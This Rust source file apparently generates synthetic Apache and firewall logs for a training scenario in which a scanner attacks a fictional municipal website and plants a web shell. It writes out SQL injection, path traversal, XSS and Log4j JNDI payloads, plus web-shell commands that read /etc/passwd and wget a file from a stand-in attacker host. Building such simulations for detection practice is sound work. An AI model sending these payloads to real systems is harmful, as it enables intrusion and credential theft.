//! Oostermeer: a scanner finds a way into the web site and leaves a web shell.

use crate::demo::generate::Lines;
use crate::demo::generate::cast::{attacker, oostermeer};
use crate::demo::generate::dice::Dice;
use crate::demo::generate::firewall::panos_threat;
use crate::demo::generate::moment::{Day, Moment};
use crate::demo::generate::web::{BROWSERS, Request, apache};

const SCANNER: &str = "sqlmap/1.8.9#stable (https://sqlmap.org)";

/// What the scanner asks, and what it is told.
const PROBES: &[(&str, u16)] = &[
    ("GET /.env HTTP/1.1", 404),
    ("GET /.git/config HTTP/1.1", 404),
    ("GET /phpmyadmin/index.php HTTP/1.1", 404),
    (
        "GET /eloket/attest?type=woonst%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1",
        200,
    ),
    ("GET /eloket/attest?type=1%20OR%201=1 HTTP/1.1", 200),
    ("GET /media/..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", 400),
    ("GET /media/../../../../etc/passwd HTTP/1.1", 400),
    ("GET /zoeken?q=<script>alert(1)</script> HTTP/1.1", 200),
    ("GET /zoeken?q=${jndi:ldap://203.0.113.99/a} HTTP/1.1", 200),
];

pub fn tell(lines: &mut Lines, day: &Day, dice: &mut Dice) {
    let start = day.before_end(240);
    for round in 0..12 {
        scan(lines, start.plus_s(round * 60), dice);
    }
    let at = start.plus_s(800);
    ask(lines, at, "POST /eloket/upload.php HTTP/1.1", 200, BROWSERS[1], dice);
    let commands = ["whoami", "id", "cat+/etc/passwd", "uname+-a", "wget+http://203.0.113.99/s.php"];
    for (index, command) in commands.iter().enumerate() {
        let line = format!("GET /media/uploads/shell.php?cmd={command} HTTP/1.1");
        ask(lines, at.plus_s(20 + index as i64 * 15), &line, 200, BROWSERS[1], dice);
    }
}

fn scan(lines: &mut Lines, start: Moment, dice: &mut Dice) {
    let target = oostermeer::WEB[0].address;
    for (index, (line, status)) in PROBES.iter().enumerate() {
        ask(lines, start.plus_s(index as i64 * 4), line, *status, SCANNER, dice);
    }
    let threats = [
        ("www.oostermeer.example/eloket/attest", "HTTP SQL Injection Attempt(54608)", "alert", "high"),
        (
            "www.oostermeer.example/zoeken",
            "Apache Log4j Remote Code Execution Vulnerability(91991)",
            "reset-both",
            "critical",
        ),
    ];
    for (url, threat, action, severity) in threats {
        let at = start.plus_s(30);
        lines.push(
            "oostermeer-fw",
            at,
            panos_threat(at, attacker::WEB, target, url, threat, action, severity),
        );
    }
}

fn ask(lines: &mut Lines, at: Moment, line: &str, status: u16, agent: &str, dice: &mut Dice) {
    let request =
        Request { from: attacker::WEB, user: "-", line, status, bytes: dice.between(200, 9000), agent };
    lines.push("oostermeer-web", at, apache(at, oostermeer::WEB[0].name, &request.combined(at)));
}
